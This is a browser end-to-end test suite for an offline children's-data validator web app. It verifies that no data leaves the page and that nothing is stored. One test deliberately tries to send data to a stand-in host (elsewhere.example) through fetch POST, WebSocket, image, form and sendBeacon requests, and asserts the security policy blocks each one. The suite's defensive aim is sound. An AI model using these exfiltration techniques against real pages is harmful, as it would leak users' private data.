// Proof that nothing leaves: everything that the browser asks of any network, from the first file
// to the last download.

import { readFile } from "node:fs/promises";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { startChromium } from "./support/chromium";
import { type RecordingProxy, startRecordingProxy } from "./support/recording-proxy";
import { serveFolder } from "./support/serve-folder";
import { filesOfSite, SITE } from "./support/site";
import { startSsda903Web } from "./support/ssda903-web";

/** What the page edits in, which is nowhere in the site. */
const CANARY = "CANARY903";

const DOWNLOADS = [
  "List of changes",
  "Corrected data as CSV files",
  "Corrected data as XML",
  "Summary of failures",
  "Children with errors",
  "Excel workbook",
];

const HOSTS = {
  "ssda903 web": startSsda903Web,
  "a plain file host": () => serveFolder(SITE, "/under/a/path/"),
};

describe.each(Object.entries(HOSTS))("from %s", (_, start) => {
  let host: { url: string; close(): Promise<void> };
  let proxy: RecordingProxy;
  let browser: Browser;
  let page: Page;
  /** What the page and its workers asked for, be it kept in the browser or not. */
  const asked: string[] = [];
  const refused: string[] = [];
  const said: string[] = [];

  beforeAll(async () => {
    host = await start();
    proxy = await startRecordingProxy(new URL(host.url).origin);
    browser = await startChromium(proxy.url);
    page = await browser.newPage();
    page.setDefaultTimeout(60_000);
    page.context().on("request", (request) => asked.push(request.url()));
    page.on("console", (message) => said.push(message.text()));
    await page.exposeFunction("noteRefused", (what: string) => refused.push(what));
    await page.addInitScript(() => {
      const note = (globalThis as unknown as { noteRefused(what: string): void }).noteRefused;
      document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
        note(`${violatedDirective} ${blockedURI}`),
      );
    });
  });

  afterAll(async () => {
    await browser.close();
    await proxy.close();
    await host.close();
  });

  test("loads, and with the network cut validates, edits, validates again and downloads", async () => {
    await page.goto(host.url);
    await page.getByRole("button", { name: "Try it with sample data" }).click();
    await page.getByRole("rowheader", { name: "2026/header.csv" }).waitFor();
    await page.getByText("it opens without a network").waitFor();
    await page.getByRole("progressbar").waitFor({ state: "detached" });

    await host.close();
    await page.getByRole("button", { name: "Validate" }).click();
    await page.getByRole("heading", { name: "Children", exact: true }).waitFor();
    const errors = await figure(page, "errors");
    expect(errors).toBeGreaterThan(10);
    // All that rules need had been fetched: postcodes, the database, the plan.
    expect(await figure(page, "not run")).toBe(1);

    await page
      .getByRole("gridcell")
      .filter({ hasText: /^\d{7}/ })
      .first()
      .click();
    await page.keyboard.type(CANARY);
    await page.keyboard.press("Enter");
    await page.getByRole("button", { name: "Validate again" }).click();
    await page.getByText("not validated yet").waitFor({ state: "detached" });
    expect(await figure(page, "errors")).not.toBe(errors);

    await page.getByRole("link", { name: "Changes and downloads" }).click();
    for (const name of DOWNLOADS) {
      const [download] = await Promise.all([
        page.waitForEvent("download"),
        page.getByRole("button", { name: `Download ${name}`, exact: true }).click(),
      ]);
      const content = await readFile(await download.path());
      expect(content.length).toBeGreaterThan(20);
      if (name === "List of changes") expect(content.toString()).toContain(CANARY);
    }
  });

  test("all that left the browser is GETs of the site's own files", async () => {
    const files = new Set(filesOfSite());
    expect(proxy.left.length).toBeGreaterThan(5);
    for (const { method, address, body } of proxy.left) {
      expect([method, body]).toEqual(["GET", ""]);
      expect(address.startsWith(host.url), address).toBe(true);
      const name = address.slice(host.url.length);
      expect(name === "" || files.has(name), address).toBe(true);
    }
    expect(asked.length).toBeGreaterThan(5);
    // A download comes from the page's own memory, under an address of its own kind.
    const elsewhere = asked.filter((url) => !url.startsWith(host.url) && !url.startsWith("blob:"));
    expect(elsewhere).toEqual([]);
    const fetched = proxy.left.map(({ address }) => address.slice(host.url.length));
    expect(fetched).toContain("service-worker.js");
    expect(fetched.some((name) => name.endsWith(".wasm"))).toBe(true);
    expect(fetched.some((name) => name.startsWith("data/postcodes/"))).toBe(true);
  });

  test("no request carries data, nor does the console", async () => {
    const header = await readFile(join(SITE, "sample/2026/header.csv"), "utf8");
    const children = header
      .trim()
      .split("\n")
      .slice(1)
      .map((line) => line.split(",")[0] ?? "");
    expect(children.length).toBeGreaterThan(50);
    const told = [JSON.stringify(proxy.left), ...said].join("\n");
    for (const child of [CANARY, ...children.filter((child) => child.length > 5)]) {
      expect(told.includes(child), child).toBe(false);
    }
  });

  test("the page asks for nothing that the policy refuses, and keeps no data", async () => {
    expect(refused).toEqual([]);
    const kept = await page.evaluate(async () => ({
      local: localStorage.length,
      session: sessionStorage.length,
      cookies: document.cookie,
      databases: await indexedDB.databases(),
    }));
    expect(kept).toEqual({ local: 0, session: 0, cookies: "", databases: [] });
  });

  test("neither the page nor its workers could reach any other place", async () => {
    const before = proxy.left.length;
    const reach = async () => {
      const elsewhere = "http://elsewhere.example/";
      const ways = [
        () => fetch(elsewhere, { method: "POST", mode: "no-cors", body: "data" }),
        () => fetch("http://127.0.0.1:9/", { mode: "no-cors" }),
        () =>
          new Promise((_, reject) => (new WebSocket("ws://elsewhere.example/").onerror = reject)),
      ];
      const outcomes = await Promise.allSettled(ways.map(async (way) => way()));
      return outcomes.map(({ status }) => status);
    };
    const allRefused = ["rejected", "rejected", "rejected"];
    expect(await page.evaluate(reach)).toEqual(allRefused);
    // The page's own, and in it the database's.
    expect(page.workers()).toHaveLength(2);
    for (const worker of page.workers()) expect(await worker.evaluate(reach)).toEqual(allRefused);
    await page.evaluate(() => {
      const image = new Image();
      image.src = "http://elsewhere.example/?data";
      const form = document.createElement("form");
      form.action = "http://elsewhere.example/";
      form.method = "post";
      document.body.append(image, form);
      form.submit();
      const script = document.createElement("script");
      script.textContent = "document.title = 'inline'";
      document.body.append(script);
      navigator.sendBeacon("http://elsewhere.example/", "data");
    });
    await expect.poll(() => refused.join()).toMatch(/connect-src.*form-action/s);
    expect(refused.join()).toMatch(/img-src/);
    expect(refused.join()).toMatch(/script-src/);
    expect(await page.title()).not.toBe("inline");
    expect(proxy.left.slice(before)).toEqual([]);
  });
});

/** One of the totals above the children, by the words beside it. */
async function figure(page: Page, name: string): Promise<number> {
  const term = page.getByRole("term").filter({ hasText: new RegExp(`^${name}$`) });
  const text = await term.locator("xpath=following-sibling::dd").innerText();
  return Number(text.replace(/\D/g, ""));
}
